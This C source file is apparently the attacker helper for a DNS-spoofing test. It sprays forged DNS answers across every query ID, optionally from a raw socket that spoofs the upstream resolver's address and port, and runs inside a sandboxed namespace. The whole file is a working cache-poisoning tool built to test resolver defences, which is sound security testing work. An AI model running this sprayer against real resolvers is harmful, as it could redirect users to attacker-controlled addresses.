// The attacker of test/kernel/dns-spoof.test.ts: forged DNS answers for every
// query id (all 65,536), each claiming NAME is 192.0.2.66. The test compiles
// it (cc -O2) and runs it inside a namespace.
//
//   dns-spray udp                   from an ordinary UDP socket (its own address: a sandbox)
//   dns-spray raw SRC_IP SRC_PORT   from a raw socket bound to SRC_IP, UDP source port
//                                   SRC_PORT: the upstream's own address and port, spoofed
//                                   from the namespace that owns that address (the fake WAN)
//
// Reads commands on stdin, one per line; answers each with "done PORT SENT ERRORS SECONDS":
//   PORT NAME ADDR[,ADDR...] PPS    every id, to each ADDR:PORT; PPS > 0 paces the packets (so
//                                   a receiver can read them all instead of its kernel dropping
//                                   most on a full socket buffer)
// C with sendmmsg(2), because the window is a second or so and Node has no raw sockets.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 256
#define MAXDEST 8

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

// The forged answer: header, the question for NAME, one A record 192.0.2.66. Returns its length.
static int answer(uint8_t* p, const char* name) {
  static const uint8_t head[12] = {0, 0, 0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};  // QR RD RA, 1 question, 1 answer
  memcpy(p, head, 12);
  int n = 12;
  const char* l = name;
  while (*l) {
    const char* dot = strchr(l, '.');
    int len = dot ? (int)(dot - l) : (int)strlen(l);
    p[n++] = (uint8_t)len;
    memcpy(p + n, l, len);
    n += len;
    l += len + (dot ? 1 : 0);
  }
  p[n++] = 0;
  static const uint8_t rest[] = {0, 1, 0, 1,  // QTYPE A, QCLASS IN
                                 0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 2, 0x58, 0, 4, 192, 0, 2, 66};
  memcpy(p + n, rest, sizeof rest);
  return n + (int)sizeof rest;
}

int main(int argc, char** argv) {
  int raw = argc > 1 && strcmp(argv[1], "raw") == 0;
  int fd;
  uint16_t sport = 0;
  if (raw) {
    if (argc < 4) return 2;
    fd = socket(AF_INET, SOCK_RAW, IPPROTO_UDP);
    struct sockaddr_in src = {.sin_family = AF_INET};
    inet_pton(AF_INET, argv[2], &src.sin_addr);
    // The kernel writes the IP header, with this (local) address as its source.
    if (fd < 0 || bind(fd, (struct sockaddr*)&src, sizeof src) < 0) return perror("raw socket"), 1;
    sport = (uint16_t)atoi(argv[3]);
  } else {
    fd = socket(AF_INET, SOCK_DGRAM, 0);
    if (fd < 0) return perror("socket"), 1;
  }
  static uint8_t pkts[BATCH][600];
  static struct mmsghdr msgs[BATCH];
  static struct iovec iovs[BATCH];
  static struct sockaddr_in dests[MAXDEST];
  char line[1024], name[300], addrs[600];
  while (fgets(line, sizeof line, stdin)) {
    int port;
    long pps = 0;
    if (sscanf(line, "%d %299s %599s %ld", &port, name, addrs, &pps) < 3) continue;
    int ndest = 0;
    for (char* a = strtok(addrs, ","); a && ndest < MAXDEST; a = strtok(NULL, ",")) {
      dests[ndest] = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = raw ? 0 : htons((uint16_t)port)};
      inet_pton(AF_INET, a, &dests[ndest].sin_addr);
      ndest++;
    }
    uint8_t tmpl[600];
    int off = raw ? 8 : 0;
    int len = off + answer(tmpl + off, name);
    if (raw) {  // UDP header; checksum 0: none (IPv4 allows it)
      uint16_t h[4] = {htons(sport), htons((uint16_t)port), htons((uint16_t)len), 0};
      memcpy(tmpl, h, 8);
    }
    for (int i = 0; i < BATCH; i++) memcpy(pkts[i], tmpl, len);
    long sent = 0, errors = 0;
    double start = now();
    int n = 0;
    for (long k = 0; k < 65536L * ndest; k++) {
      int id = (int)(k / ndest), d = (int)(k % ndest);
      pkts[n][off] = (uint8_t)(id >> 8);
      pkts[n][off + 1] = (uint8_t)id;
      iovs[n] = (struct iovec){pkts[n], (size_t)len};
      msgs[n].msg_hdr = (struct msghdr){.msg_name = &dests[d], .msg_namelen = sizeof dests[d], .msg_iov = &iovs[n], .msg_iovlen = 1};
      if (++n == BATCH || k == 65536L * ndest - 1) {
        int done = 0;
        while (done < n) {
          int r = sendmmsg(fd, msgs + done, n - done, 0);
          if (r <= 0) {
            errors++;  // one packet lost to the error; go on with the next
            done++;
          } else {
            sent += r;
            done += r;
          }
        }
        n = 0;
        if (pps > 0) {
          double ahead = start + (double)(k + 1) / pps - now();
          if (ahead > 0) {
            struct timespec t = {(time_t)ahead, (long)((ahead - (time_t)ahead) * 1e9)};
            nanosleep(&t, NULL);
          }
        }
      }
    }
    printf("done %d %ld %ld %.3f\n", port, sent, errors, now() - start);
    fflush(stdout);
  }
  return 0;
}
